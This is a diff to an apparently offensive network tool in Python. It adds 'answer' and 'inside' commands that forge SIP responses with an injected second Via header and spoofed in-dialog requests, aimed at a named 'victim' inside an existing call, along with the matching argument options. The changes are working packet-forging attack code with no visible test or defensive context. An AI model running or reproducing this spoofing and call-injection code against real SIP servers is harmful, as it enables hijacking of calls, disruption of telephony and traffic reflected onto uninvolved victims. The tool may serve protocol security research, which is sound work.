@@ -108,8 +108,36 @@ def count_probes(wire, o):
     return f"{count} {octets}"
 
 
+def answer(_wire, o):
+    """An answer that nobody gave, inside a call (Call-ID, From-tag, To-tag): the server forwards it
+    by its second Via to the victim."""
+    call_id, from_tag, to_tag = o.call
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.sendto((f"SIP/2.0 {o.status} Whatever\r\n"
+                     f"Via: SIP/2.0/UDP {SERVER}:5060;branch=z9hG4bKx\r\n"
+                     f"Via: SIP/2.0/UDP {o.victim}:{o.sport};branch=z9hG4bK{sip.token()}\r\n"
+                     f"From: <sip:caller@example.com>;tag={from_tag}\r\n"
+                     f"To: <sip:call@{SERVER}>;tag={to_tag}\r\n"
+                     f"Call-ID: {call_id}\r\nCSeq: 1 {o.method}\r\n"
+                     f"Contact: <sip:call@{o.victim}>\r\nContent-Length: 0\r\n\r\n").encode(),
+                    (SERVER, 5060))
+    time.sleep(0.2)
+    return 1
+
+
+def inside(wire, o):
+    """A request with made-up tags, which the answer repeats, in the victim's name."""
+    call_id, from_tag, to_tag = o.call
+    wire.send(datagram(o.victim, SERVER, sip.request(
+        o.method, "call", SERVER, (o.victim, o.sport), call_id=call_id, from_tag=from_tag,
+        to_tag=to_tag), o.sport))
+    time.sleep(0.2)
+    return 1
+
+
 COMMANDS = {"syns": syns, "numbers": numbers, "every-ttl": every_ttl, "blind": blind,
-            "probed": probed, "reflected": reflected, "hold": hold, "count-probes": count_probes}
+            "probed": probed, "reflected": reflected, "hold": hold, "count-probes": count_probes,
+            "answer": answer, "inside": inside}
 
 
 def main():
@@ -120,6 +148,9 @@ def main():
     parser.add_argument("--ttl", type=int, default=64)
     parser.add_argument("--seconds", type=float, default=3)
     parser.add_argument("--source", help="addresses, with commas between")
+    parser.add_argument("--call", nargs=3, help="Call-ID, From-tag, To-tag")
+    parser.add_argument("--method", default="INVITE")
+    parser.add_argument("--status", default="200")
     parser.add_argument("command", choices=COMMANDS)
     options = parser.parse_args()
     print(COMMANDS[options.command](Wire(), options))
